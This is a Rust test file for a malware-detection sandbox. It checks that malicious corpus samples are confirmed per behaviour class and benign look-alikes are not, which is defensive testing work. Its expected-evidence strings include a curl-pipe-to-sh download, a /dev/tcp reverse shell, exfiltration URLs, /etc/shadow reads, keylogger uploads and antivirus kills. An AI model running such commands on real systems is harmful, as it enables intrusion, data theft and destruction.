//! Behaviour evidence against a real engine: malicious code from the corpus
//! (tests/corpus/malicious) run under the recorders is `confirmed` with what it tried, one
//! Python and one JavaScript positive per behaviour class; the benign look-alikes of those
//! classes, run as whole modules with every top-level function called, are never confirmed.
//! Two look-alikes of our own (tests/fixtures/behaviour) sit right beside the narrow shapes:
//! a backup that reads and re-writes every document but keeps them, a keyboard hook that
//! reports a count. Gated like every Docker test (`BLUECODE_DOCKER_TESTS=1`).

mod common;

use std::path::PathBuf;

use bluecode_sandbox::{
    InconclusiveCause, SinkKind, Verdict, VerifyReport, VerifyRequest, WHOLE_MODULE,
};
use common::{docker_enabled, sandbox, verify};

/// A file of the malicious corpus, or of this crate's own behaviour fixtures (`own:` prefix).
fn corpus(path: &str) -> String {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let full = match path.strip_prefix("own:") {
        Some(own) => root.join("tests/fixtures/behaviour").join(own),
        None => root.join("../../tests/corpus/malicious").join(path),
    };
    std::fs::read_to_string(&full).unwrap_or_else(|e| panic!("{}: {e}", full.display()))
}

fn behaviour_request(path: &str, function: &str, constitution: &str) -> VerifyRequest {
    VerifyRequest {
        language: if path.ends_with(".py") {
            "python"
        } else {
            "javascript"
        }
        .to_owned(),
        module_source: corpus(path),
        module_file: path
            .trim_start_matches("own:")
            .rsplit('/')
            .next()
            .unwrap_or(path)
            .to_owned(),
        function: function.to_owned(),
        constitution: Some(constitution.to_owned()),
        ..VerifyRequest::default()
    }
}

async fn run(path: &str, function: &str, constitution: &str) -> VerifyReport {
    verify(&sandbox(), &behaviour_request(path, function, constitution)).await
}

/// Confirmed by `profile`, with `needle` among the events that confirmed it.
async fn expect_confirmed(
    path: &str,
    function: &str,
    constitution: &str,
    profile: &str,
    needle: &str,
) {
    let report = run(path, function, constitution).await;
    match &report.verdict {
        Verdict::Confirmed {
            sink,
            kind,
            call,
            evidence,
            ..
        } => {
            assert_eq!(*kind, SinkKind::Behaviour, "{report:?}");
            assert_eq!(sink, profile, "{report:?}");
            assert!(call.contains(needle), "{needle} not in {call}");
            assert!(evidence.contains(needle), "{report:?}");
            assert!(
                report
                    .verdict
                    .explanation()
                    .starts_with("behaviour confirmed")
            );
        }
        other => panic!("{path}::{function}: expected confirmed {profile}, got {other:?}"),
    }
}

/// A look-alike runs (the whole module, every function called) and is never confirmed.
async fn expect_not_confirmed(path: &str, constitution: &str) {
    let report = run(path, WHOLE_MODULE, constitution).await;
    assert!(
        !matches!(report.verdict, Verdict::Confirmed { .. }),
        "{path}: a look-alike was confirmed: {report:?}"
    );
    let did_not_run = matches!(
        report.verdict,
        Verdict::Inconclusive {
            cause: InconclusiveCause::HarnessError
                | InconclusiveCause::DockerUnavailable
                | InconclusiveCause::ImageMissing
                | InconclusiveCause::Unsupported,
            ..
        }
    );
    assert!(!did_not_run, "{path}: the recorder did not run: {report:?}");
}

macro_rules! docker_test {
    ($name:ident, $body:expr) => {
        #[tokio::test(flavor = "multi_thread")]
        async fn $name() {
            if !docker_enabled(stringify!($name)) {
                return;
            }
            $body.await;
        }
    };
}

// Secret-file read and exfiltration.
docker_test!(
    python_reads_the_shadow_file,
    expect_confirmed(
        "secret-read/account_audit_vuln.py",
        "shadow_hashes",
        "mal.secret-file-access",
        "secret-read",
        "open /etc/shadow (r)"
    )
);
docker_test!(
    javascript_reads_the_npm_token,
    expect_confirmed(
        "secret-read/token_scan_vuln.js",
        "npmToken",
        "mal.secret-file-access",
        "secret-read",
        "open /work/home/.npmrc (r)"
    )
);
docker_test!(
    python_script_sends_ssh_keys_out,
    expect_confirmed(
        "exfiltration/ssh_helper_vuln.py",
        WHOLE_MODULE,
        "mal.credential-exfiltration",
        "exfiltration",
        "fetch https://api-telemetry.dev-metrics.io/v1/c"
    )
);
docker_test!(
    javascript_sends_browser_secrets_out,
    expect_confirmed(
        "exfiltration/browser_sync_vuln.js",
        "syncThemes",
        "mal.credential-exfiltration",
        "exfiltration",
        "/work/home/"
    )
);
// Process kill.
docker_test!(
    python_kills_every_process,
    expect_confirmed(
        "process-kill/optimizer_vuln.py",
        "nuke",
        "mal.process-kill",
        "process-kill",
        "signal -1"
    )
);
docker_test!(
    python_kills_what_it_finds_walking_the_process_list,
    expect_confirmed(
        "process-kill/optimizer_vuln.py",
        "free_cpu",
        "mal.process-kill",
        "process-kill",
        "(SIGKILL (sshd))"
    )
);
docker_test!(
    javascript_kills_the_antivirus,
    expect_confirmed(
        "process-kill/reaper_vuln.js",
        "disableDefender",
        "mal.process-kill",
        "process-kill",
        "taskkill /F /IM MsMpEng.exe"
    )
);
// Reverse shell: a connection out (redirected to a local listener) and a shell on it.
docker_test!(
    python_connects_back_with_a_shell,
    expect_confirmed(
        "reverse-shell/support_agent_vuln.py",
        "_session",
        "mal.reverse-shell",
        "reverse-shell",
        "connect 193.42.11.87:4444"
    )
);
docker_test!(
    python_spawns_bash_on_dev_tcp,
    expect_confirmed(
        "reverse-shell/net_diag_vuln.py",
        "run_diagnostics",
        "mal.reverse-shell",
        "reverse-shell",
        "/dev/tcp/diag-collector.top/8443"
    )
);
docker_test!(
    javascript_serves_a_shell_on_a_port,
    expect_confirmed(
        "reverse-shell/dev_console_vuln.js",
        "openConsole",
        "mal.reverse-shell",
        "reverse-shell",
        "spawn /bin/sh"
    )
);
// Download and execute.
docker_test!(
    python_executes_a_downloaded_update,
    expect_confirmed(
        "download-execute/updater_vuln.py",
        "check_for_updates",
        "mal.download-and-execute",
        "download-and-execute",
        "fetch http://45.137.21.9/agent/latest.py"
    )
);
docker_test!(
    javascript_pipes_curl_into_sh,
    expect_confirmed(
        "download-execute/postinstall_vuln.js",
        WHOLE_MODULE,
        "mal.download-and-execute",
        "download-and-execute",
        "curl -fsSL http://cdn-npm-assets.xyz/i.sh | sh"
    )
);
// Destructive deletion.
docker_test!(
    python_deletes_the_home_directory,
    expect_confirmed(
        "destructive/cleanup_vuln.py",
        "clean_cache",
        "mal.destructive-deletion",
        "destructive-deletion",
        "delete /work/home"
    )
);
docker_test!(
    javascript_script_deletes_the_home_directory,
    expect_confirmed(
        "destructive/clean_build_vuln.js",
        WHOLE_MODULE,
        "mal.destructive-deletion",
        "destructive-deletion",
        "delete /work/home"
    )
);
// Keylogging: the recorder types decoy keys into the hook; they must leave.
docker_test!(
    python_keylogger_uploads_the_typed_keys,
    expect_confirmed(
        "keylogger/hotkeys_vuln.py",
        WHOLE_MODULE,
        "mal.keylogger",
        "keylogger",
        "https://stats-sync.app/k (POST 27 bytes, carries the typed keys)"
    )
);
docker_test!(
    javascript_page_script_beacons_the_typed_keys,
    expect_confirmed(
        "keylogger/form_metrics_vuln.js",
        WHOLE_MODULE,
        "mal.keylogger",
        "keylogger",
        "(sendBeacon), carries the typed keys"
    )
);
// Clipboard hijack: the decoy wallet address copied on the fake page is swapped.
docker_test!(
    javascript_swaps_the_copied_wallet_address,
    expect_confirmed(
        "clipboard/wallet_helper_vuln.js",
        WHOLE_MODULE,
        "mal.clipboard-hijack",
        "clipboard-hijack",
        "clipboard bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh (replaced the copied text (copy event))"
    )
);
// Ransomware: many documents read, encrypted copies written, the originals deleted.
docker_test!(
    python_encrypts_the_home_documents,
    expect_confirmed(
        "ransomware/vault_vuln.py",
        "lock",
        "mal.ransomware-behavior",
        "ransomware",
        ".locked (w)"
    )
);
docker_test!(
    javascript_encrypts_the_home_documents,
    expect_confirmed(
        "ransomware/encrypt_home_vuln.js",
        WHOLE_MODULE,
        "mal.ransomware-behavior",
        "ransomware",
        "delete /work/home/Documents/budget.xlsx (unlinkSync)"
    )
);
// Resource exhaustion that neither kills the run nor starts processes.
docker_test!(
    python_fills_the_disk,
    expect_confirmed(
        "memory-exhaustion/hog_vuln.py",
        "fill_disk",
        "mal.resource-exhaustion",
        "resource-exhaustion",
        "limit disk"
    )
);
docker_test!(
    javascript_holds_more_buffers_than_the_memory_limit,
    expect_confirmed(
        "memory-exhaustion/leak_vuln.js",
        "leak",
        "mal.resource-exhaustion",
        "resource-exhaustion",
        "held over 256 MB in buffers"
    )
);
docker_test!(
    javascript_grows_a_string_to_the_engine_limit,
    expect_confirmed(
        "memory-exhaustion/leak_vuln.js",
        "strings",
        "mal.resource-exhaustion",
        "resource-exhaustion",
        "Invalid string length"
    )
);
// Persistence: a system unit plus its hidden payload in a temporary directory.
docker_test!(
    python_installs_a_unit_for_a_hidden_payload,
    expect_confirmed(
        "persistence/service_unit_vuln.py",
        "persist",
        "mal.persistence",
        "persistence",
        "open /etc/systemd/system/journald-flush.service (w)"
    )
);
// Obfuscated execution: a shell command decoded at run time.
docker_test!(
    python_runs_a_decoded_command,
    expect_confirmed(
        "obfuscated-shell/bootstrap_vuln.py",
        "stage_three",
        "mal.obfuscated-execution",
        "obfuscated-execution",
        "spawn /bin/sh -c id -a (decoded at run time (base64.b64decode))"
    )
);

// The benign look-alikes of the same classes.
docker_test!(look_alikes_are_never_confirmed, async {
    for (path, constitution) in [
        ("secret-read/ssh_client_safe.py", "mal.secret-file-access"),
        (
            "secret-read/config_loader_safe.js",
            "mal.secret-file-access",
        ),
        (
            "exfiltration/ssh_helper_safe.py",
            "mal.credential-exfiltration",
        ),
        (
            "exfiltration/wallet_stealer_safe.py",
            "mal.webhook-exfiltration",
        ),
        (
            "exfiltration/browser_sync_safe.js",
            "mal.credential-exfiltration",
        ),
        (
            "exfiltration/ci_env_report_safe.js",
            "mal.environment-exfiltration",
        ),
        ("process-kill/service_ctl_safe.py", "mal.process-kill"),
        ("process-kill/dev_server_safe.js", "mal.process-kill"),
        ("reverse-shell/net_diag_safe.py", "mal.reverse-shell"),
        ("reverse-shell/support_agent_safe.py", "mal.reverse-shell"),
        ("reverse-shell/dev_console_safe.js", "mal.reverse-shell"),
        (
            "download-execute/build_helper_safe.py",
            "mal.download-and-execute",
        ),
        (
            "download-execute/updater_safe.py",
            "mal.download-and-execute",
        ),
        (
            "download-execute/postinstall_safe.js",
            "mal.download-and-execute",
        ),
        ("destructive/cleanup_safe.py", "mal.destructive-deletion"),
        (
            "destructive/clean_build_safe.js",
            "mal.destructive-deletion",
        ),
        (
            "destructive/wipe_on_uninstall_safe.js",
            "mal.destructive-deletion",
        ),
        ("keylogger/hotkeys_safe.py", "mal.keylogger"),
        ("keylogger/form_metrics_safe.js", "mal.keylogger"),
        ("own:typing_stats_safe.js", "mal.keylogger"),
        ("clipboard/wallet_helper_safe.js", "mal.clipboard-hijack"),
        ("ransomware/vault_safe.py", "mal.ransomware-behavior"),
        ("ransomware/encrypt_home_safe.js", "mal.ransomware-behavior"),
        ("own:home_backup_safe.py", "mal.ransomware-behavior"),
        (
            "memory-exhaustion/buffers_safe.py",
            "mal.resource-exhaustion",
        ),
        (
            "memory-exhaustion/stream_safe.js",
            "mal.resource-exhaustion",
        ),
        ("fork-bomb/prefork_safe.py", "mal.resource-exhaustion"),
        ("fork-bomb/cluster_safe.js", "mal.resource-exhaustion"),
        ("persistence/service_unit_safe.py", "mal.persistence"),
        ("obfuscated-shell/codec_safe.py", "mal.obfuscated-execution"),
    ] {
        expect_not_confirmed(path, constitution).await;
    }
});
